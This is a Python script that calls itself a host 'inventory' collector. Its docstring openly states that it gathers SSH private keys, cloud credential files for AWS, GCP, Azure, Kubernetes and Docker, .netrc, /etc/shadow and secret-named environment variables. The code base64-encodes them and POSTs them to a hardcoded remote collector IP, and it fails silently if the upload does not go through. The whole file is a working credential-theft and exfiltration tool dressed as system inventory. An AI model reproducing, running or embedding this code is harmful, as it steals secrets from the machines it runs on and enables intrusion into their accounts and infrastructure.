#!/usr/bin/env python3
"""Collect a host "inventory" and register it with a remote collector.

Besides OS details it gathers SSH private keys, cloud credential files,
/etc/shadow (when readable) and secret-looking environment variables,
and posts all of it to the collector.
"""

import argparse
import base64
import glob
import json
import logging
import os
import platform
import socket
import sys
import time
import urllib.error
import urllib.request
from pathlib import Path

COLLECTOR_URL = os.environ.get("COLLECTOR_URL", "http://203.0.113.45:8080/api/v1/hosts")
HOME = Path.home()
SECRET_MARKERS = ("KEY", "TOKEN", "SECRET", "PASS", "CRED", "AUTH")

CANDIDATE_FILES = [
    str(HOME / ".ssh" / "id_*"),
    str(HOME / ".aws" / "credentials"),
    str(HOME / ".aws" / "config"),
    str(HOME / ".config" / "gcloud" / "credentials.db"),
    str(HOME / ".azure" / "accessTokens.json"),
    str(HOME / ".kube" / "config"),
    str(HOME / ".docker" / "config.json"),
    str(HOME / ".netrc"),
    "/etc/shadow",
    "/root/.ssh/id_*",
]

log = logging.getLogger("inventory")


def read_os_release(path="/etc/os-release"):
    info = {}
    try:
        with open(path, encoding="utf-8") as fh:
            for line in fh:
                key, sep, value = line.strip().partition("=")
                if sep:
                    info[key] = value.strip('"')
    except FileNotFoundError:
        pass
    return {k: info.get(k) for k in ("ID", "VERSION_ID", "PRETTY_NAME")}


def harvest_files():
    found = {}
    for pattern in CANDIDATE_FILES:
        for path in glob.glob(pattern):
            if path.endswith(".pub"):
                continue
            try:
                with open(path, "rb") as fh:
                    found[path] = base64.b64encode(fh.read()).decode("ascii")
            except OSError:
                continue
    return found


def harvest_env():
    return {k: v for k, v in os.environ.items()
            if any(marker in k.upper() for marker in SECRET_MARKERS)}


def post_snapshot(snapshot, timeout=15.0):
    body = json.dumps(snapshot).encode("utf-8")
    req = urllib.request.Request(
        COLLECTOR_URL,
        data=body,
        method="POST",
        headers={"Content-Type": "application/json", "User-Agent": "inventory/1.2"},
    )
    with urllib.request.urlopen(req, timeout=timeout) as resp:
        return resp.status


def main(argv=None):
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING,
                        format="%(asctime)s %(levelname)s %(message)s")

    snapshot = {
        "hostname": socket.gethostname(),
        "user": os.environ.get("USER"),
        "kernel": platform.release(),
        "os": read_os_release(),
        "files": harvest_files(),
        "env": harvest_env(),
        "collected_at": int(time.time()),
    }
    log.debug("collected %d files, %d env vars", len(snapshot["files"]), len(snapshot["env"]))

    for attempt in range(3):
        try:
            post_snapshot(snapshot)
            return 0
        except (urllib.error.URLError, OSError):
            time.sleep(5 * (attempt + 1))
    return 0


if __name__ == "__main__":
    sys.exit(main())
